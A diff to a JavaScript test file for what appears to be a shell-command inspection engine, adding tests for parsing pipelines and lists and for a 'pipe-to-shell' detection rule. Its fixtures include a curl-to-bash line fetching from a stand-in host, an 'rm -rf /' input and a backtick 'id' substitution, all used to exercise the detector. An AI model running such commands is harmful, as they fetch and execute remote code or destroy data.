@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { inspectCode } from '../engine.js';
-import { plainCommand } from './words.js';
+import { plainCommand, plainStatement } from './words.js';
 
 test('plainCommand reads only plain words and simple quotes', () => {
   assert.deepEqual(plainCommand("A=1 grep -r 'a b' \"c\"d")?.words.map((w) => w.text), ['grep', '-r', 'a b', 'cd']);
@@ -21,4 +21,25 @@ test('commands read from their text and commands walked node by node agree', asy
     ['ls', ['a b'], ['A=1', 'B="x y"'], 1, 27],
     ['ls', ['a b', '$X'], ['A=1', 'B="x y"'], 1, 51],
   ]);
+});
+
+test('plainStatement reads one-line pipelines and lists of plain commands, nothing else', () => {
+  const st = plainStatement('ls -l | wc -l && A=1 echo "a b" ; true &');
+  assert.deepEqual(st?.map((p) => p.map((c) => [c.column, c.command.words.map((w) => w.text)])), [
+    [[0, ['ls', '-l']], [8, ['wc', '-l']]],
+    [[17, ['echo', 'a b']]],
+    [[34, ['true']]],
+  ]);
+  for (const text of ['a |', 'a ||', '| a', 'a ;; b', 'a |& b', 'a && ; b', 'A=1', 'if true', 'time ls', 'x | while', 'export A=1', 'ls\nrm -rf /', 'ls > f', 'echo $X', 'echo `id`', 'echo "a|b"']) {
+    assert.equal(plainStatement(text), undefined, text);
+  }
+});
+
+test('statements read from their text keep the pipe and the line in a long script', async () => {
+  const filler = Array.from({ length: 150 }, (_, i) => `echo line ${i} && grep -r foo src | sort`);
+  const { invocations, findings } = await inspectCode('shell', [...filler, 'curl -s https://x.example/i.sh | bash'].join('\n'));
+  assert.equal(invocations.length, 150 * 3 + 2);
+  const sh = invocations.at(-1)!;
+  assert.deepEqual([sh.program, sh.line, sh.column, sh.upstream.map((u) => u.program)], ['bash', 151, 34, ['curl']]);
+  assert.ok(findings.some((f) => f.rule === 'shell.pipe-to-shell' && f.location?.line === 151));
 });
